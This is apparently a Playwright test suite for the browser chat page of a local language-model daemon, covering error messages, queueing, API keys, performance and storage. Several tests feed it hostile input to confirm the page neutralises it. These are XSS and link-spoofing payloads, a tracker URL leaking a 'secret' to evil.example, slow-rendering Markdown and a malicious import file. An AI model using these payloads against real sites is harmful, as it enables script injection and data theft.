// What goes wrong, and who means ill.

import assert from "node:assert/strict";
import { readFileSync, writeFileSync, mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { test } from "node:test";
import { answer, answerWith, daemon, open, say, talk } from "./page.mjs";

const { url } = await daemon();

test("a full queue is told with a way on, and the message is not lost", async () => {
  const page = await open(url, { expected: ["429"] });
  await say(page, "full");
  const alert = page.locator(".problem.failed");
  assert.match(await alert.innerText(), /32 requests are waiting already: try again in about 7 s\./);
  await page.reload();
  await page.waitForSelector(".problem.failed");
  assert.equal(await page.locator("article.user .said").innerText(), "full");
  await page.getByRole("button", { name: "Try again" }).click();
  await page.waitForSelector("article.running", { state: "detached" });
  assert.match(await alert.innerText(), /32 requests/);
  assert.equal(await page.locator("article").count(), 2);
  assert.equal(await page.locator(".actions .quiet").count(), 0);
  assert.deepEqual(page.complaints, []);
});

for (const [command, told] of [
  ["long", /maximum context length is 4096 tokens/], ["down", /The model cannot be loaded: no memory\./],
  ["template", /roles must alternate/], ["break Half", /The answer was lost/],
]) {
  test(`${command}: an error is a sentence`, async () => {
    const page = await open(url, { expected: ["400", "503", "500"] });
    await say(page, command);
    assert.match(await page.locator(".problem.failed p").innerText(), told);
    if (command.startsWith("break")) assert.equal(await answer(page), "Half");
    assert.deepEqual(page.complaints, []);
  });
}

test("a daemon that is gone is told, and what was typed is there when it is back", async () => {
  const page = await open(url, { expected: ["Failed to load", "net::"] });
  await page.route("**/v1/chat/completions", (route) => route.abort());
  await say(page, "say hello");
  assert.match(await page.locator(".problem.failed p").innerText(), /^The daemon cannot be reached\./);
  await page.unroute("**/v1/chat/completions");
  await page.getByRole("button", { name: "Try again" }).click();
  await page.waitForFunction(() => document.querySelector("article.assistant .parts > .md")?.textContent === "hello");
});

test("hostile answers stay harmless text", async () => {
  const page = await open(url);
  const hostile = [
    "<img src=x onerror=alert(1)> <svg onload=alert(2)><script>alert(3)</script></svg> <script>alert(4)</script>",
    "<iframe src='https://evil.example/'></iframe><style>*{display:none}</style><form action='https://evil.example'>",
    "![tracker](https://evil.example/pixel.png?q=secret) ![x](javascript:alert(5)) <picture><source srcset=//evil.example>",
    "[run](javascript:alert(6)) [data](data:text/html,<script>alert(7)</script>) [here](/v1/models) [vb](vbscript:x)",
    "[https://bank.example](https://evil.example/a\"onmouseover=alert(8)) <https://evil.example/auto> www.evil.example",
    "[ref][1] `<b>` **<i onclick=alert(9)>b</i>** &lt;script&gt;alert(10)&lt;/script&gt; <a href=https://evil.example ping=x>a</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(11)&gt;\">",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'><link rel=prefetch href=//evil.example>",
    "\u202ehttps://evil.example/\u202c [\u202egro.knab](https://evil.example/\u202ex)",
  ].join("\n\n") + "\n\n[1]: https://evil.example/ref 'x\" onload=alert(12)'\n\n```html\n<script>alert(13)</script>\n```";
  await answerWith(page, [...hostile.match(/[^]{1,7}/gu)].map((content) => ({ content })));
  await page.evaluate(() => {
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.violatedDirective));
  });
  await talk(page, "attack");
  await page.reload();
  await page.waitForSelector("article.assistant.last");
  const found = await page.locator("article.assistant .parts > .md").first().evaluate((place) => ({
    tags: [...new Set([...place.querySelectorAll("*")].map((each) => each.localName))].sort(),
    attributes: [...new Set([...place.querySelectorAll("*")].flatMap((each) => each.getAttributeNames()))].sort(),
    links: [...place.querySelectorAll("a")].map((link) => ({ href: link.href, shown: link.textContent, rel: link.rel, target: link.target })),
    text: place.textContent,
  }));
  assert.ok(!found.tags.some((tag) => ["img", "script", "style", "iframe", "form", "base", "meta", "link", "picture", "source", "math", "i", "b"].includes(tag)), String(found.tags));
  assert.ok(!found.attributes.some((name) => name.startsWith("on") || ["src", "srcset", "style", "id", "name", "ping"].includes(name)), String(found.attributes));
  assert.ok(found.links.length >= 5);
  for (const { href, shown, rel, target } of found.links) {
    assert.match(href, /^https?:\/\/(www\.)?(evil|bank)\.example/);
    assert.ok(shown.includes(href) || `${shown}/` === href || `http://${shown}/` === href, `${shown} does not show ${href}`);
    assert.equal(rel, "noopener noreferrer nofollow");
    assert.equal(target, "_blank");
  }
  assert.ok(found.text.includes("<script>alert(4)</script>") && found.text.includes("javascript:alert(6)"));
  assert.deepEqual(page.complaints, []);
  assert.deepEqual([...new Set(page.asked.map((request) => new URL(request.url()).origin))], [url]);
});

test("Markdown that is made to cost time costs little", async () => {
  const page = await open(url);
  for (const text of ["[".repeat(20_000), "> ".repeat(3000) + "x", "*a_".repeat(8000), "`".repeat(15_000), "| a ".repeat(5000) + "\n" + "|-".repeat(5000), "$".repeat(20_000), "<".repeat(30_000), "- ".repeat(3000), "![".repeat(8000), "\\(".repeat(8000), "$".repeat(99_000) + "a", "\\[\n".repeat(33_000), "$$a\n".repeat(24_000), "- " + "a few words\n".repeat(8000), "> - x\n" + "> y\n".repeat(20_000)]) {
    const took = await page.evaluate(async (source) => {
      const { render } = await import("/web/markdown.js");
      const began = performance.now();
      render(document.createElement("div"), source, true);
      return performance.now() - began;
    }, text);
    assert.ok(took < 3000, `${text.slice(0, 6)}…: ${took} ms`);
  }
  assert.deepEqual(page.complaints, []);
});

test("maths, tables and code are readable, and code is copied", async () => {
  const page = await open(url);
  await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  const text = "Inline $a_1 * b_2$, \\(x_1\\) and costs of $5 or $6.\n\n\\[\n\\sum_{i} x_i^2\n\\]\n\n$$\na_b * c_d * e\n$$\n\n| l | r |\n|:--|--:|\n| 1 | 2 |\n\n```python\nprint('hi')\n```\n- [x] done";
  await answerWith(page, [{ content: text }]);
  await talk(page, "maths");
  assert.deepEqual(await page.locator("article.assistant .math").allInnerTexts(), ["$a_1 * b_2$", "\\(x_1\\)", "\\[\n\\sum_{i} x_i^2\n\\]", "$$\na_b * c_d * e\n$$"]);
  assert.equal(await page.locator("article.assistant td").nth(1).evaluate((cell) => getComputedStyle(cell).textAlign), "right");
  assert.equal(await page.locator(".code-head span").innerText(), "python");
  await page.click('button[aria-label="Copy this code"]');
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "print('hi')");
  assert.match(await answer(page), /☑ done/);
});

test("a key is asked for once, a wrong one is told", async () => {
  const folder = mkdtempSync(`${tmpdir()}/page-keys-`);
  writeFileSync(`${folder}/keys`, "me:right-key\n");
  const guarded = await daemon({ options: ["--keys", `${folder}/keys`] });
  const page = await open(guarded.url, { expected: ["401"] });
  assert.match(await page.locator("dialog").innerText(), /This daemon wants an API key/);
  assert.equal(await page.locator("#welcome .quiet").innerText(), "Conversations stay in this browser.");
  await page.fill("#key", "wrong");
  await page.press("#key", "Enter");
  await page.waitForSelector("dialog .wrong");
  await page.fill("#key", "right-key");
  await page.press("#key", "Enter");
  await page.waitForSelector("#model option", { state: "attached" });
  await talk(page, "say hello");
  assert.equal(await answer(page), "hello");
  await page.click("#board");
  await page.waitForSelector("#panel h3");
  await page.reload();
  await page.waitForSelector("#model option", { state: "attached" });
  assert.equal(await page.locator("dialog[open]").count(), 0);
  await page.click("#forget-key");
  await page.waitForSelector("dialog[open]");
  assert.deepEqual(page.complaints, []);
});

test("the page frames nowhere, and runs nothing of a text of its own", async () => {
  const page = await open(url);
  const response = await page.request.get("/", { headers: { accept: "text/html" } });
  const policy = response.headers()["content-security-policy"];
  assert.ok(policy.includes("default-src 'none'") && policy.includes("frame-ancestors 'none'") && !policy.includes("unsafe"), policy);
  assert.doesNotMatch(await response.text(), /<script>|style=|onclick=|https?:/);
  const refused = await page.evaluate(() => {
    try {
      document.createElement("div").innerHTML = "<b>x</b>";
      return false;
    } catch {
      return true;
    }
  });
  assert.equal(refused, true);
});

test("a first token is shown within 100 ms of its event", async () => {
  const page = await open(url);
  await page.evaluate(() => {
    const real = window.fetch;
    window.fetch = async (...given) => {
      const response = await real(...given);
      if (!String(given[0]).includes("/chat/completions")) return response;
      const [seen, passed] = response.body.tee();
      void (async () => {
        const reader = seen.pipeThrough(new TextDecoderStream()).getReader();
        for (let part = await reader.read(); !part.done; part = await reader.read()) {
          if (part.value.includes("Sesame")) window.arrived ??= performance.now();
        }
      })();
      return new Response(passed, response);
    };
    new MutationObserver(() => {
      if (document.querySelector("article.assistant")?.textContent.includes("Sesame")) window.shown ??= performance.now();
    }).observe(document.getElementById("messages"), { subtree: true, childList: true, characterData: true });
  });
  const took = [];
  await talk(page, "slow 0.4 Sesame|opens");
  took.push(await page.evaluate(() => window.shown - window.arrived));
  assert.ok(took[0] < 100, `${took[0]} ms`);
});

test("10,000 messages stay usable", async () => {
  const page = await open(url);
  const conversations = Array.from({ length: 500 }, (_, number) => ({
    id: `c${number}`, title: `Talk ${number}`, kind: "chat", updated: number, leaf: `${number}-19`,
    messages: Array.from({ length: 20 }, (_, at) => ({ id: `${number}-${at}`, parent: at ? `${number}-${at - 1}` : null, role: at % 2 ? "assistant" : "user", text: `message ${at} of ${number} `.repeat(20), created: at + 1 })),
  }));
  const buffer = Buffer.from(JSON.stringify({ format: "rk3588-chat", version: 1, conversations }));
  await page.setInputFiles("#pick-import", { name: "many.json", mimeType: "application/json", buffer });
  await page.waitForFunction(() => document.querySelectorAll("article").length === 20, null, { timeout: 60_000 });
  const began = Date.now();
  await page.reload();
  await page.waitForFunction(() => document.querySelectorAll("article").length === 20 && document.querySelectorAll("#conversations li").length === 300);
  const loaded = Date.now() - began;
  await page.fill("#search", "message 7 of 321 ");
  await page.waitForFunction(() => document.querySelectorAll("#conversations li").length === 1);
  const searched = Date.now() - began - loaded;
  assert.equal(await page.locator("#conversations .open").innerText(), "Talk 321");
  await page.click("#conversations .open");
  await page.waitForFunction(() => document.getElementById("title").textContent === "Talk 321");
  await talk(page, "say fine");
  assert.equal(await answer(page), "fine");
  assert.ok(loaded < 6000 && searched < 6000, `loaded in ${loaded} ms, searched in ${searched} ms`);
});

test("a conversation of 2,000 messages opens", async () => {
  const page = await open(url);
  const messages = Array.from({ length: 2000 }, (_, at) => ({ id: `${at}`, parent: at ? `${at - 1}` : null, role: at % 2 ? "assistant" : "user", text: `**message** ${at}`, created: at + 1 }));
  const buffer = Buffer.from(JSON.stringify({ format: "rk3588-chat", version: 1, conversations: [{ title: "Long", leaf: "1999", messages }] }));
  await page.setInputFiles("#pick-import", { name: "long.json", mimeType: "application/json", buffer });
  await page.waitForFunction(() => document.querySelectorAll("article").length === 2000, null, { timeout: 30_000 });
  await talk(page, "long");
  assert.equal(await page.locator("article").count(), 2002);
});

test("a browser that keeps nothing still has a conversation", async () => {
  const before = () => {
    const refuse = () => {
      throw new DOMException("The operation is insecure.", "SecurityError");
    };
    Object.defineProperty(window, "indexedDB", { value: { open: refuse } });
    for (const name of ["localStorage", "sessionStorage"]) Object.defineProperty(window, name, { get: refuse });
  };
  const page = await open(url, { before });
  assert.equal(await page.locator("#no-conversations").innerText(), "This browser keeps no conversations.");
  await talk(page, "say one");
  await page.waitForSelector("#notice:has-text('does not keep the conversation')");
  await talk(page, "say two");
  assert.equal(await page.locator("article").count(), 4);
  assert.equal(await answer(page), "two");
  assert.deepEqual(page.complaints, []);
});

test("what is deleted under the page is kept anew from then on", async () => {
  const page = await open(url);
  await talk(page, "say one");
  const other = await open(url, { context: page.context() });
  await other.evaluate(() => new Promise((done) => {
    indexedDB.deleteDatabase("rk-chat").onsuccess = done;
  }));
  await talk(page, "say two");
  assert.equal(await page.locator("#notice").isVisible(), false);
  await page.reload();
  await page.waitForSelector("article.assistant");
  assert.equal(await answer(page), "two");
  assert.deepEqual(page.complaints, []);
});

test("files of a hostile export do no harm", async () => {
  const page = await open(url);
  const conversations = [{ id: "x", title: "<img src=x onerror=alert(1)>", messages: [{ id: "a", parent: "b", role: "evil", text: 7, state: "partial" }, { id: "b", parent: "a", role: "assistant", text: "<script>alert(1)</script>", calls: [{}], files: "no" }], leaf: "b", limit: 0.5, __proto__: null }];
  await page.setInputFiles("#pick-import", { name: "x.json", mimeType: "application/json", buffer: Buffer.from(JSON.stringify({ format: "rk3588-chat", version: 1, conversations })) });
  await page.waitForSelector("article");
  assert.equal(await page.locator("#title").innerText(), "<img src=x onerror=alert(1)>");
  await talk(page, "say hello"); // with a limit that is none
  assert.equal(await answer(page), "hello");
  assert.deepEqual(page.complaints, []);
});

/** The real daemon over a simulated board that takes its time. */
const slow = (ms, tokens) => daemon({ real: true, faults: `token_ms=${ms}`, options: ["--max-tokens", String(tokens), "--loop-limit", "0", "--library", "sim"] });

test("a worker that is killed in mid-answer is told, and the next answer comes", async () => {
  const { url: real, pid } = await slow(60, 40);
  const page = await open(real);
  await page.waitForFunction(() => document.getElementById("notice").hidden);
  assert.deepEqual(page.complaints, []);
  await say(page, "hello");
  await page.waitForSelector("article.assistant.last.running .parts > .md:not([hidden])");
  const [worker] = readFileSync(`/proc/${pid}/task/${pid}/children`, "utf8").trim().split(" ");
  process.kill(Number(worker), "SIGKILL");
  assert.match(await page.locator(".problem.failed p").innerText(), /The answer was lost: the runtime's process was ended by SIGKILL\./);
  await page.getByRole("button", { name: "Try again" }).click();
  await page.waitForSelector("article.assistant.last:not(.running) .figures:has-text('tok/s')");
  assert.match(await page.locator("article.assistant.last .problem").innerText(), /^Cut off/);
  await page.click("#board");
  await page.waitForFunction(() => /Restarts\s*[1-9]/.test(document.getElementById("panel").innerText));
  const told = await page.locator("#panel").innerText();
  assert.match(told, /Simulated: no NPU is used/);
  assert.match(told, /1\.1\.1, simulated/);
  assert.match(told, /Answering, tok\/s\s+[\d.]+\s+[\d.]+ \([\d.]+ – [\d.]+\)/);
  assert.deepEqual(page.complaints, []);
});

test("who waits is told the place in the queue", async () => {
  const { url: real } = await slow(50, 60);
  const page = await open(real);
  await page.waitForFunction(() => document.getElementById("notice").hidden);
  const others = Array.from({ length: 2 }, () => fetch(`${real}/v1/completions`, { method: "POST", body: '{"prompt": "a"}' }));
  await page.waitForFunction(async () => (await (await fetch("/stats")).json()).queued === 1);
  await say(page, "hello");
  await page.waitForSelector(".waiting:has-text('Number 2 in the queue.')");
  await page.waitForSelector(".waiting:has-text('Next in the queue.')");
  await page.waitForSelector("article.assistant.last:not(.running)");
  await Promise.all(others);
});

test("a conversation that is renamed and deleted while it is answered keeps its name, and stays away", async () => {
  const page = await open(url);
  await say(page, "slow 0.3 one|two|three|four|five|six|seven|eight|nine|ten|hang");
  await page.waitForSelector("article.running");
  await page.hover("#conversations li");
  await page.click('#conversations button[aria-label^="Rename"]');
  await page.fill("dialog input", "My name");
  await page.click("dialog button.primary");
  await page.waitForTimeout(1500); // the answer is kept once in a second
  await page.reload();
  await page.waitForSelector("#conversations li");
  assert.match(await page.locator("#conversations").innerText(), /My name/);
  await page.goto(url);
  await say(page, "slow 0.3 one|two|three|four|five|six|seven|eight|nine|ten|hang");
  await page.waitForSelector("article.running");
  const rows = await page.locator("#conversations li").count();
  await page.hover("#conversations li");
  await page.click('#conversations li:first-child button[aria-label^="Delete"]');
  await page.click("dialog button.danger");
  await page.waitForTimeout(500);
  await page.reload();
  await page.waitForSelector("#conversations li");
  assert.equal(await page.locator("#conversations li").count(), rows - 1);
  assert.deepEqual(page.complaints, []);
});
